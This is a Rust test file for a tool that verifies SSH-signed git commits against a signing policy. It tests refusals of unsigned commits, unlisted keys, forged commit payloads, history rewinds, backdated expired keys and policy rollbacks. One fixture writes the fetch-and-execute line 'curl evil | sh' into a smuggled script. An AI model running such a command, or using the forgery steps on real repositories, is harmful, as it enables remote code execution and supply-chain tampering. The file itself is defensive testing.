//! `byoc verify` against repositories signed with the real tools: keys from `ssh-keygen`,
//! commits signed by `git -c gpg.format=ssh commit -S`, and the attacks a signing policy
//! must stop. Each refusal also checks that the high-water mark did not move.

use std::path::PathBuf;
use std::process::Command;

mod agent;
mod daemon;
mod daemon_aws;
mod daemon_ha;
mod daemon_source;
mod fetch;
mod gitsign;
mod holes;
mod openpgp;
mod property;
mod publish;
mod rbac;
mod state_buckets;
mod x509;

use crate::support::{Run, byoc};

/// A repository, SSH keys made by ssh-keygen, and a policy file outside the repository.
struct Signed {
    dir: tempfile::TempDir,
    commits: u32,
}

impl Signed {
    fn new() -> Self {
        Self::with_format("sha1")
    }

    /// A repository of the given object format (`sha1`, `sha256`).
    fn with_format(format: &str) -> Self {
        let s = Signed { dir: tempfile::tempdir().expect("tempdir"), commits: 0 };
        for d in ["repo", "keys", "state"] {
            std::fs::create_dir_all(s.dir.path().join(d)).expect("mkdir");
        }
        for who in ["alice", "alice2", "bob", "mallory", "forge"] {
            let out = Command::new("ssh-keygen")
                .args(["-q", "-t", "ed25519", "-N", "", "-C", who, "-f"])
                .arg(s.dir.path().join("keys").join(who))
                .output()
                .expect("ssh-keygen runs");
            assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        }
        s.git(&["init", "-q", "-b", "main", &format!("--object-format={format}")]);
        s
    }

    fn repo(&self) -> PathBuf {
        self.dir.path().join("repo")
    }

    fn public(&self, who: &str) -> String {
        std::fs::read_to_string(self.dir.path().join("keys").join(format!("{who}.pub"))).expect("pub").trim().to_owned()
    }

    /// `allowed_signers`: alice (two keys) and bob; `extra` lines appended.
    fn policy(&self, rules: &str, alice_options: &str) {
        let key = |who: &str| self.public(who).split_whitespace().take(2).collect::<Vec<_>>().join(" ");
        let allowed = format!(
            "alice@example.com {alice_options}{}\nalice@example.com {}\nbob@example.com {}\n",
            key("alice"),
            key("alice2"),
            key("bob")
        );
        std::fs::write(self.dir.path().join("allowed_signers"), allowed).expect("write");
        let policy = format!(
            "apiVersion: byoc.risingwave.dev/v1alpha1\nkind: SigningPolicy\nmetadata: {{name: test}}\nspec:\n  version: 1\n  allowedSignersFile: allowed_signers\n  groups:\n    - {{name: platform, members: [alice@example.com, bob@example.com]}}\n  rules:\n{rules}\n  forgeMergeKey: {{trusted: false}}\n"
        );
        std::fs::write(self.dir.path().join("policy.yaml"), policy).expect("write");
    }

    fn default_policy(&self) {
        self.policy(
            "    - {paths: [\"**\"], signers: [platform], threshold: 1}\n    - {paths: [\"prod/**\"], signers: [platform], threshold: 2}",
            "",
        );
    }

    fn git_with(&self, args: &[&str], env: &[(&str, &str)]) -> String {
        let out = Command::new("git")
            .args(["-c", "user.name=Test", "-c", "user.email=test@example.com", "-c", "commit.gpgsign=false", "-c", "gpg.format=ssh"])
            .args(args)
            .current_dir(self.repo())
            .envs(env.iter().copied())
            .env_remove("GIT_DIR")
            .output()
            .expect("git runs");
        assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8_lossy(&out.stdout).trim().to_owned()
    }

    fn git(&self, args: &[&str]) -> String {
        self.git_with(args, &[])
    }

    fn write(&self, path: &str, text: &str) {
        let p = self.repo().join(path);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(p, text).expect("write");
    }

    fn key_path(&self, who: &str) -> String {
        self.dir.path().join("keys").join(who).display().to_string()
    }

    /// Commits everything, signed with `who`'s key (`None`: unsigned).
    fn commit(&mut self, who: Option<&str>, message: &str) -> String {
        self.commit_dated(who, message, None)
    }

    fn commit_dated(&mut self, who: Option<&str>, message: &str, date: Option<&str>) -> String {
        self.commits += 1;
        self.git(&["add", "-A"]);
        let date = date.map_or_else(|| format!("2026-01-01T00:{:02}:00Z", self.commits), str::to_owned);
        let env = [("GIT_AUTHOR_DATE", date.as_str()), ("GIT_COMMITTER_DATE", date.as_str())];
        match who {
            Some(w) => {
                let key = self.key_path(w);
                self.git_with(&["-c", &format!("user.signingkey={key}"), "commit", "-q", "--allow-empty", "-S", "-m", message], &env)
            }
            None => self.git_with(&["commit", "-q", "--allow-empty", "-m", message], &env),
        };
        self.git(&["rev-parse", "HEAD"])
    }

    fn verify(&self, extra: &[&str]) -> Run {
        let repo = self.repo().display().to_string();
        let policy = self.dir.path().join("policy.yaml").display().to_string();
        let state = self.dir.path().join("state").display().to_string();
        let mut args = vec!["verify", "--repo", &repo, "--policy", &policy, "--state-dir", &state];
        args.extend_from_slice(extra);
        byoc(self.dir.path(), &args)
    }

    fn last_verified(&self) -> Option<String> {
        let p = self.dir.path().join("state/source-state.json");
        let v: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(p).ok()?).ok()?;
        v["lastVerified"].as_str().map(str::to_owned)
    }

    /// A first verified revision: one signed commit by alice.
    fn verified_base(&mut self) -> String {
        self.default_policy();
        self.write("env/a.yaml", "a: 1\n");
        let c = self.commit(Some("alice"), "base");
        let run = self.verify(&[]);
        assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
        assert_eq!(self.last_verified().as_deref(), Some(c.as_str()));
        c
    }

    /// Asserts a refusal whose output contains `reason`, and that the mark stayed at `mark`.
    fn assert_refused(&self, reason: &str, mark: &str) {
        let run = self.verify(&[]);
        assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
        assert!(run.stdout.contains(reason), "expected {reason:?} in:\n{}{}", run.stdout, run.stderr);
        assert_eq!(self.last_verified().as_deref(), Some(mark), "the high-water mark did not move");
    }
}

#[test]
fn a_signed_push_verifies_and_moves_the_mark() {
    let mut s = Signed::new();
    let base = s.verified_base();
    s.write("env/b.yaml", "b: 1\n");
    s.commit(Some("bob"), "add b");
    s.write("env/a.yaml", "a: 2\n");
    let tip = s.commit(Some("alice"), "change a");
    let run = s.verify(&[]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert!(run.stdout.contains(&format!("verified main@sha1:{tip}: 2 commit(s), 2 path(s)")), "{}", run.stdout);
    assert!(run.stdout.contains("ssh     bob@example.com"), "{}", run.stdout);
    assert_ne!(s.last_verified(), Some(base));
    assert_eq!(s.last_verified().as_deref(), Some(tip.as_str()));
    assert!(s.dir.path().join("state/source-state.json").exists());
}

#[test]
fn a_sha256_repository_is_verified_from_its_gpgsig_sha256_headers() {
    let mut s = Signed::with_format("sha256");
    let base = s.verified_base();
    assert_eq!(base.len(), 64, "a SHA-256 commit id");
    assert!(s.git(&["cat-file", "commit", &base]).contains("\ngpgsig-sha256 -----BEGIN SSH SIGNATURE-----"));
    s.write("env/b.yaml", "b: 1\n");
    let tip = s.commit(Some("bob"), "add b");
    let run = s.verify(&[]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert!(run.stdout.contains(&format!("verified main@sha256:{tip}")), "{}", run.stdout);
    assert_eq!(s.last_verified().as_deref(), Some(tip.as_str()));
    s.write("env/c.yaml", "c: 1\n");
    s.commit(None, "unsigned");
    s.assert_refused("\"unsigned\"): not signed", &tip);
    s.git(&["reset", "-q", "--hard", &base]);
    s.assert_refused(&format!("history rewritten: {base} is not a descendant of {tip}"), &tip);
}

#[test]
fn the_high_water_mark_can_live_in_an_s3_bucket() {
    let mut s = Signed::new();
    s.default_policy();
    s.write("env/a.yaml", "a: 1\n");
    let base = s.commit(Some("alice"), "base");
    let bucket = crate::state_s3::new_bucket();
    let (repo, policy) = (s.repo().display().to_string(), s.dir.path().join("policy.yaml").display().to_string());
    let state = format!("s3://{bucket}/envs/prod");
    let dir = s.dir.path().to_owned();
    let verify = || {
        let args = ["verify", "--repo", &repo, "--policy", &policy, "--state-s3", &state, "--endpoint-url", crate::state_s3::moto()];
        crate::support::byoc_env(&dir, &args, &crate::state_s3::MOTO_ENV)
    };
    let run = verify();
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    // The mark is in the bucket: the next run verifies only the new commit, and a
    // rewind to the old one is refused.
    s.write("env/b.yaml", "b: 1\n");
    let tip = s.commit(Some("bob"), "add b");
    let run = verify();
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert!(run.stdout.contains(&format!("range {}..{}", &base[..12], &tip[..12])), "{}", run.stdout);
    s.git(&["reset", "-q", "--hard", &base]);
    let run = verify();
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert!(run.stdout.contains(&format!("history rewritten: {base} is not a descendant of {tip}")), "{}", run.stdout);
}

#[test]
fn an_unsigned_commit_inside_the_range_is_refused() {
    let mut s = Signed::new();
    let base = s.verified_base();
    s.write("env/b.yaml", "b: 1\n");
    s.commit(None, "unsigned");
    s.write("env/c.yaml", "c: 1\n");
    s.commit(Some("alice"), "signed on top");
    s.assert_refused("\"unsigned\"): not signed", &base);
}

#[test]
fn a_key_not_in_the_policy_is_refused() {
    let mut s = Signed::new();
    let base = s.verified_base();
    s.write("env/b.yaml", "b: 1\n");
    s.commit(Some("mallory"), "by mallory");
    s.assert_refused("which the policy does not list", &base);
}

#[test]
fn a_valid_signature_over_a_different_payload_is_refused() {
    let mut s = Signed::new();
    let base = s.verified_base();
    s.write("env/b.yaml", "b: 1\n");
    let good = s.commit(Some("alice"), "honest change");
    // Keep alice's signature, change what it is attached to.
    let raw = s.git(&["cat-file", "commit", &good]);
    let forged = raw.replace("honest change", "evil change");
    assert_ne!(raw, forged);
    let path = s.dir.path().join("forged");
    std::fs::write(&path, format!("{forged}\n")).expect("write");
    let id = s.git(&["hash-object", "-t", "commit", "-w", &path.display().to_string()]);
    s.git(&["update-ref", "refs/heads/main", &id]);
    s.assert_refused("does not match the commit's content", &base);
}

#[test]
fn a_force_push_to_an_older_fully_signed_commit_is_refused() {
    let mut s = Signed::new();
    let old = s.verified_base();
    s.write("env/b.yaml", "b: 1\n");
    let newer = s.commit(Some("alice"), "newer");
    assert_eq!(s.verify(&[]).code, 0);
    s.git(&["reset", "-q", "--hard", &old]);
    s.assert_refused(&format!("history rewritten: {old} is not a descendant of {newer}"), &newer);
}

#[test]
fn an_expired_key_with_a_backdated_committer_date_is_refused() {
    let mut s = Signed::new();
    s.policy("    - {paths: [\"**\"], signers: [platform], threshold: 1}", "valid-before=\"20250101\" ");
    s.write("env/a.yaml", "a: 1\n");
    // Committer date before the expiry: the date is the signer's to choose, so it must not count.
    s.commit_dated(Some("alice"), "backdated", Some("2024-06-01T00:00:00Z"));
    let run = s.verify(&[]);
    assert_eq!(run.code, 1, "{}", run.stdout);
    assert!(run.stdout.contains("expired (valid-before)"), "{}", run.stdout);
    assert_eq!(s.last_verified(), None);
    // alice's other key is not expired: the same change signed with it verifies.
    let alice2 = s.key_path("alice2");
    s.git(&["-c", &format!("user.signingkey={alice2}"), "commit", "-q", "--amend", "--no-edit", "-S"]);
    let run = s.verify(&[]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
}

#[test]
fn a_revert_signed_by_an_untrusted_key_is_refused_and_a_signed_one_restores_the_tree() {
    let mut s = Signed::new();
    s.verified_base();
    s.write("env/a.yaml", "a: 2\n");
    let change = s.commit(Some("bob"), "change a");
    assert_eq!(s.verify(&[]).code, 0);

    let mallory = s.key_path("mallory");
    s.git(&["-c", &format!("user.signingkey={mallory}"), "revert", "--no-edit", "-S", &change]);
    s.assert_refused("which the policy does not list", &change);

    s.git(&["reset", "-q", "--hard", &change]);
    let alice = s.key_path("alice");
    s.git(&["-c", &format!("user.signingkey={alice}"), "revert", "--no-edit", "-S", &change]);
    let run = s.verify(&[]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert_eq!(std::fs::read_to_string(s.repo().join("env/a.yaml")).expect("read"), "a: 1\n");
}

#[test]
fn a_signed_merge_of_an_unsigned_branch_is_refused() {
    let mut s = Signed::new();
    let base = s.verified_base();
    s.git(&["checkout", "-q", "-b", "feature"]);
    s.write("env/b.yaml", "b: 1\n");
    s.commit(None, "unsigned branch work");
    s.git(&["checkout", "-q", "main"]);
    let bob = s.key_path("bob");
    s.git(&["-c", &format!("user.signingkey={bob}"), "merge", "-q", "--no-ff", "-S", "-m", "merge feature", "feature"]);
    s.assert_refused("\"unsigned branch work\"): not signed", &base);
}

#[test]
fn a_prod_threshold_of_two_needs_two_people_not_two_keys() {
    let mut s = Signed::new();
    let base = s.verified_base();
    s.git(&["checkout", "-q", "-b", "feature"]);
    s.write("prod/cluster.yaml", "replicas: 3\n");
    s.commit(Some("alice"), "prod change by alice");
    s.git(&["checkout", "-q", "main"]);

    // Merged by alice again, with her second key: still one person.
    let alice2 = s.key_path("alice2");
    s.git(&["-c", &format!("user.signingkey={alice2}"), "merge", "-q", "--no-ff", "-S", "-m", "merge by alice", "feature"]);
    s.assert_refused("prod/cluster.yaml needs 2 distinct signer(s) under rules[1] and has 1", &base);

    // Merged by bob: the author and the merger are two signers.
    s.git(&["reset", "-q", "--hard", &base]);
    let bob = s.key_path("bob");
    s.git(&["-c", &format!("user.signingkey={bob}"), "merge", "-q", "--no-ff", "-S", "-m", "merge by bob", "feature"]);
    let run = s.verify(&[]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
}

#[test]
fn a_path_no_rule_covers_is_refused() {
    let mut s = Signed::new();
    s.policy("    - {paths: [\"env/**\"], signers: [platform], threshold: 1}", "");
    s.write("env/a.yaml", "a: 1\n");
    s.write("scripts/run.sh", "curl evil | sh\n");
    s.commit(Some("alice"), "sneak a script in");
    let run = s.verify(&[]);
    assert_eq!(run.code, 1);
    assert!(run.stdout.contains("changes scripts/run.sh, which no rule covers"), "{}", run.stdout);
}

#[test]
fn json_output_names_format_signer_rule_and_result_per_commit() {
    let mut s = Signed::new();
    s.default_policy();
    s.write("env/a.yaml", "a: 1\n");
    s.commit(Some("alice"), "first");
    let run = s.verify(&["--output", "json"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let v: serde_json::Value = serde_json::from_str(&run.stdout).expect("json");
    let c = &v["commits"][0];
    assert_eq!((c["format"].as_str(), c["signer"].as_str(), c["ok"].as_bool()), (Some("ssh"), Some("alice@example.com"), Some(true)));
    assert_eq!(c["rules"], serde_json::json!(["rules[0]"]));
}

#[test]
fn byoc_revert_to_makes_one_signed_commit_that_verifies_and_restores_the_tree() {
    let mut s = Signed::new();
    let base = s.verified_base();
    s.write("env/a.yaml", "a: 2\n");
    s.write("env/b.yaml", "b: 1\n");
    s.commit(Some("alice"), "two changes");
    s.write("env/a.yaml", "a: 3\n");
    let before = s.commit(Some("bob"), "third");
    assert_eq!(s.verify(&[]).code, 0);

    let repo = s.repo().display().to_string();
    let key = s.key_path("bob");
    s.git(&["config", "gpg.format", "ssh"]);
    s.git(&["config", "user.signingkey", &key]);
    s.git(&["config", "user.name", "Bob"]);
    s.git(&["config", "user.email", "bob@example.com"]);
    let run = byoc(s.dir.path(), &["revert", "--repo", &repo, "--to", &base]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let head = s.git(&["rev-parse", "HEAD"]);
    assert_eq!(s.git(&["rev-parse", "HEAD^"]), before, "one new commit on top; nothing reset");
    assert_eq!(s.git(&["rev-parse", "HEAD^{tree}"]), s.git(&["rev-parse", &format!("{base}^{{tree}}")]));
    assert!(!s.repo().join("env/b.yaml").exists(), "the work tree follows");
    let run = s.verify(&[]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert_eq!(s.last_verified(), Some(head));

    let again = byoc(s.dir.path(), &["revert", "--repo", &repo, "--to", &base]);
    assert_eq!(again.code, 1);
    assert!(again.stderr.contains("nothing to revert"), "{}", again.stderr);
}

#[test]
fn the_pull_request_plan_shows_signature_status_and_the_rules_still_lacking_signatures() {
    let mut s = Signed::new();
    s.default_policy();
    crate::support::copy_dir(&crate::support::project_root().join("examples/aws"), &s.repo().join("prod/aws"));
    let base = s.commit(Some("alice"), "base");
    s.git(&["checkout", "-q", "-b", "pr"]);
    let file = s.repo().join("prod/aws/clusters/analytics.yaml");
    let text = std::fs::read_to_string(&file).expect("read").replace("compute: {replicas: 3,", "compute: {replicas: 6,");
    std::fs::write(&file, text).expect("write");
    let head = s.commit(Some("alice"), "prod change");
    let repo = s.repo().display().to_string();
    let policy = s.dir.path().join("policy.yaml").display().to_string();
    let run = byoc(
        s.dir.path(),
        &["plan", "--repo", &repo, "--base", &base, "--head", &head, "--env", "prod/aws", "--output", "markdown", "--policy", &policy],
    );
    assert_eq!(run.code, 2, "the plan's exit code is the plan's: {}{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("### Signatures"), "{}", run.stdout);
    assert!(run.stdout.contains("| ssh | alice@example.com | rules[1] | ok |"), "{}", run.stdout);
    assert!(
        run.stdout.contains("- `prod/aws/clusters/analytics.yaml` (rules[1]): 1 of 2 distinct signer(s) so far [\"alice@example.com\"]"),
        "{}",
        run.stdout
    );
}

impl Signed {
    /// A `.byoc/policy.yaml` with `version`, listing the given people's keys inline.
    fn repo_policy(&self, version: u32, people: &[(&str, &str)]) {
        let signers: String = people
            .iter()
            .map(|(name, key)| {
                format!(
                    "    - {{name: {name}, sshKeys: [\"{}\"]}}\n",
                    self.public(key).split_whitespace().take(2).collect::<Vec<_>>().join(" ")
                )
            })
            .collect();
        let names: Vec<&str> = people.iter().map(|(n, _)| *n).collect();
        self.write(
            ".byoc/policy.yaml",
            &format!(
                "apiVersion: byoc.risingwave.dev/v1alpha1\nkind: SigningPolicy\nmetadata: {{name: in-repo}}\nspec:\n  version: {version}\n  signers:\n{signers}  rules:\n    - {{paths: [\"**\"], signers: [{}], threshold: 1}}\n  forgeMergeKey: {{trusted: false}}\n",
                names.join(", ")
            ),
        );
    }
}

#[test]
fn an_in_repo_policy_takes_effect_for_later_ranges_and_cannot_be_rolled_back() {
    let mut s = Signed::new();
    s.verified_base();
    // v2 drops bob; alice, allowed by the policy in force, signs the change.
    s.repo_policy(2, &[("alice@example.com", "alice")]);
    let v2 = s.commit(Some("alice"), "policy v2 without bob");
    // Inside the range that makes it, v2 judges nothing: bob still signs under the
    // operator's policy, and the range verifies.
    s.write("env/b.yaml", "b: 1\n");
    let bob = s.commit(Some("bob"), "bob in the same range");
    let run = s.verify(&[]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert_eq!(s.last_verified().as_deref(), Some(bob.as_str()));

    // From the next range on, v2 is in force: bob is no longer a signer.
    s.write("env/c.yaml", "c: 1\n");
    s.commit(Some("bob"), "bob after v2");
    s.assert_refused("\"bob after v2\"): signed with SSH key", &bob);
    let run = s.verify(&[]);
    assert!(run.stdout.contains(&format!("policy in-repo v2 (.byoc/policy.yaml at {})", &bob[..12])), "{}", run.stdout);
    assert_ne!(v2, bob);

    // Back to version 1, signed by someone the policy allows: refused all the same.
    s.git(&["reset", "-q", "--hard", &bob]);
    s.repo_policy(1, &[("alice@example.com", "alice"), ("bob@example.com", "bob")]);
    s.commit(Some("alice"), "policy v1 again");
    s.assert_refused(
        "policy rolled back or unchanged: .byoc/policy.yaml at the tip has version 1 but the policy in force has version 2",
        &bob,
    );
}

#[test]
fn an_in_repo_policy_change_must_satisfy_the_policy_before_it() {
    let mut s = Signed::new();
    let base = s.verified_base();
    s.repo_policy(5, &[("mallory@example.com", "mallory")]);
    s.commit(Some("mallory"), "mallory trusts mallory");
    s.assert_refused("which the policy does not list", &base);
}
